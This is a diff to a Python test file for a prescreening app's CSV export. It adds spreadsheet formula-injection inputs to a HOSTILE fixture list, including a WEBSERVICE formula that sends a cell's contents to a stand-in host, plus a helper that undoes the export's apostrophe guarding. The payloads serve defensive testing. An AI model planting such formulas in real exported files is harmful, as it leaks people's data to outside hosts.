@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import re
 from dataclasses import replace
 from datetime import UTC, datetime, timedelta
 from fractions import Fraction
@@ -16,12 +17,14 @@ from prescreen.eligibility.assessment.determination import Determination
 from prescreen.eligibility.criteria.dates import PartialDate
 from prescreen.eligibility.criteria.questions import QuestionBank
 from prescreen.eligibility.criteria.trials import Trial
+from prescreen.eligibility.criteria.truth import Truth
 from prescreen.export.columns.table import HEADER, chosen
 from prescreen.export.formats import Source, chunks
+from prescreen.export.redcap_fields.criteria import Criteria
 from prescreen.storage.base.keys import Keys
-from prescreen.storage.export.csv_copy import FORMULA_STARTS
+from prescreen.storage.export.csv_copy import FORMULA_SIGNS, FORMULA_STARTS, SEPARATORS, SKIPPED
 from prescreen.storage.participants.consents import GivenBy, Purpose, StoredConsent
-from prescreen.storage.referrals.referrals import State, StoredReferral
+from prescreen.storage.referrals.referrals import FindingRecord, State, StoredReferral
 from prescreen.storage.tables import Consent, Lead, Referral, ReferralTag
 from prescreen.workflow.export.referral_rows import Format, ReferralRow, Wanted
 from prescreen.workflow.participants import data_subject_rights
@@ -44,6 +47,18 @@ HOSTILE = (
     '"',
     "+1 617 555 0100",
     "_x0041_ & <b>",
+    *(f"Zed{separator}=1+1{separator}" for separator in SEPARATORS),
+    *(f"Zed; {sign}1+1;" for sign in FORMULA_SIGNS),
+    'a;=WEBSERVICE("http://x.example/"&B2);',
+    'b;"=1+1";',
+    'c;""=1+1"";',
+    ';"=1+1',
+    ";;=1+1",
+    "d,\t \u00a0=1+1\t",
+    "'=1+1",
+    "e;'=1+1;",
+    "f; '=1+1;",
+    '"=1+1;',
 )
 
 REFERRAL = StoredReferral(
@@ -86,6 +101,12 @@ ROW = ReferralRow(
 WITHDRAWN = replace(ROW, referral=replace(REFERRAL, state=State.WITHDRAWN, determination=None, withdrawn_at=LATER))
 
 
+def as_typed(cell: str) -> str:
+    """Return a text as it was before the export guarded it, by the rule that `docs/desk.md` gives to programs."""
+    text = re.sub(f"^'(?='*[{SKIPPED}]*[{FORMULA_STARTS}])", "", cell)
+    return re.sub(f"([{SEPARATORS}])'(?='*[{SKIPPED}]*[{FORMULA_SIGNS}])", r"\1", text)
+
+
 def wanted(form: Format = Format.CSV, **changes: Any) -> Wanted:
     """Return an export of everything, with the given changes."""
     with_identity = changes.pop("with_identity", True)
@@ -97,7 +118,7 @@ def made(
     database: Database, keys: Keys, what: Wanted, bank: QuestionBank | None = None, trial: Trial | None = None
 ) -> bytes:
     """Return the whole file."""
-    source = Source(database, keys, bank or QuestionBank({}), trial)
+    source = Source(database, keys, Criteria(trial, bank or QuestionBank({}), {}))
     return b"".join(chunk.data for chunk in chunks(source, what))
 
 
@@ -107,7 +128,7 @@ def hostile_people(database: Database, keys: Keys) -> None:
         to_a = replace(
             TO_A,
             site_name=word,
-            findings=({**TO_A.findings[0], "criterion": word}, TO_A.findings[1]),
+            findings=(_finding(word, tuple(Truth)[number % len(Truth)]), TO_A.findings[1]),
             question_ids=(word, *ANSWERS.given),
             miles=number,
         )
@@ -148,6 +169,10 @@ _NUMBERS = {
     "n6": "0",
     "n7": f"1/1{'0' * 61}",
 }
+
+
+def _finding(criterion: str, permits: Truth) -> FindingRecord:
+    return {**TO_A.findings[0], "criterion": criterion, "permits": permits.value}
 
 
 def _consents(number: int, word: str) -> tuple[Any, ...]:
